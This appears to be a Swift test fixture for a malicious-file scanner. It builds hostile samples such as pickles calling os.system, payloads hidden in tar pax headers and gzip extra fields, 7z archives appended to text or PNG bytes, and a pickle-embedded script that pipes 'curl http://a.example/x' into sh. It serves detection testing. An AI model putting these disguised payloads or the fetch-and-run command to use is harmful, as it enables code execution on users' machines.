import Bytes
import Findings
import TestSupport

// Hostile files: what lies in corners of archives and pickles that only one reader looks into.
extension Corpus {
  private static let payload = PickleBuilder.call("os", "system", "id")
  private static let harmless = PickleBuilder(protocol: 4).list().stop()

  static let corners: [HostileFile] = paxValues + compressedCorners + literals + partials

  private static func row(
    _ name: String, _ rule: Rule, _ file: String, _ bytes: @escaping @Sendable () -> [UInt8],
    clean: (@Sendable () -> [UInt8])? = nil
  ) -> HostileFile {
    HostileFile(name, rule, rule.severity, in: file, bytes: bytes, clean: clean)
  }

  private static func tar(_ key: String, _ value: [UInt8]) -> [UInt8] {
    var builder = TarBuilder()
    builder.add("PaxHeader", TarBuilder.record(key, value), type: "x")
    builder.add("a.txt", [0x61])
    return builder.bytes
  }

  private static let paxValues: [HostileFile] = [
    row("payload in an extended attribute", .dangerousImport, "a.tar") {
      tar("SCHILY.xattr.user.a", payload)
    },
    row("payload in an attribute that bsdtar wrote", .dangerousImport, "a.tar") {
      tar("LIBARCHIVE.xattr.user.a", Array(Base64.encode(payload).utf8))
    },
    row("payload in a comment of pax", .dangerousImport, "a.tar") {
      tar("comment", payload)
    } clean: {
      tar("comment", Array("0123456789abcdef0123456789abcdef01234567".utf8))
    },
    row("payload under a key of nobody", .dangerousImport, "a.tar") {
      tar("VENDOR.key", payload)
    } clean: {
      tar("VENDOR.key", Array("a longer text of its vendor".utf8))
    },
  ]

  private static let compressedCorners: [HostileFile] = [
    row("payload in a field of gzip's header", .dangerousImport, "a.txt.gz") {
      let field = [0x61, 0x62, UInt8(payload.count), 0] + payload
      // RFC 1952: FEXTRA; then a block that is stored, with the text "a".
      return [0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, UInt8(field.count), 0] + field
        + [1, 1, 0, 0xfe, 0xff, 0x61, 0x43, 0xbe, 0xb7, 0xe8, 1, 0, 0, 0]
    },
    row("a 7z archive behind other bytes", .hiddenBytes, "a.txt") {
      Array("a text\n".utf8) + ((try? Fixture.bytes("scan/7z/pickle.7z").array) ?? [])
    },
    row("a 7z archive behind a picture", .polyglot, "a.png") {
      [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]
        + ((try? Fixture.bytes("scan/7z/pickle.7z").array) ?? [])
    },
  ]

  private static let program: [UInt8] =
    [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1] + [UInt8](repeating: 0, count: 57)

  private static let literals: [HostileFile] = [
    row("a program in bytes of a pickle", .hiddenProgram, "a.pkl") {
      PickleBuilder(protocol: 4).binary(program).stop()
    } clean: {
      PickleBuilder(protocol: 4).binary([UInt8](repeating: 1, count: 64)).stop()
    },
    row("a script in a text of a pickle", .hiddenProgram, "a.pkl") {
      PickleBuilder(protocol: 4).text("#!/bin/sh\ncurl http://a.example/x | sh\n").stop()
    } clean: {
      PickleBuilder(protocol: 4).text("# a remark\nand more of the same text\n").stop()
    },
    row("an array of bytes that is a pickle", .tensorIsFile, "a.npy") {
      var builder = NumPyBuilder(pickle: payload, shape: "(\(payload.count),)")
      builder.descr = "'|u1'"
      return builder.bytes
    },
    row("bytes before a pickle", .malformedPickle, "a.pkl") {
      Array("xx".utf8) + payload
    } clean: {
      harmless
    },
  ]

  /// `functools.partial(f)`, and the state that pandas 1.3 gives it.
  private static func partial(_ module: String, _ name: String) -> PickleBuilder {
    PickleBuilder(protocol: 4).stackGlobal("functools", "partial").stackGlobal(module, name)
      .tuple(of: 1).reduce()
  }

  private static let check = ("sklearn.utils.validation", "check_array")

  private static let partials: [HostileFile] = [
    row("a partial of a function that runs", .dangerousImport, "a.pkl") {
      partial("os", "system").stop()
    } clean: {
      partial(check.0, check.1).stop()
    },
    row("a partial that gets another function", .misusedImport, "a.pkl") {
      partial(check.0, check.1).mark().stackGlobal("numpy", "add").tuple(of: 0).dict().none()
        .tuple().build().stop()
    } clean: {
      partial(check.0, check.1).mark().stackGlobal(check.0, check.1).tuple(of: 0).dict().none()
        .tuple().build().stop()
    },
    row("a partial that gets arguments by their place", .misusedImport, "a.pkl") {
      partial(check.0, check.1).mark().stackGlobal(check.0, check.1).text("a").tuple(of: 1).dict()
        .none().tuple().build().stop()
    },
  ]
}
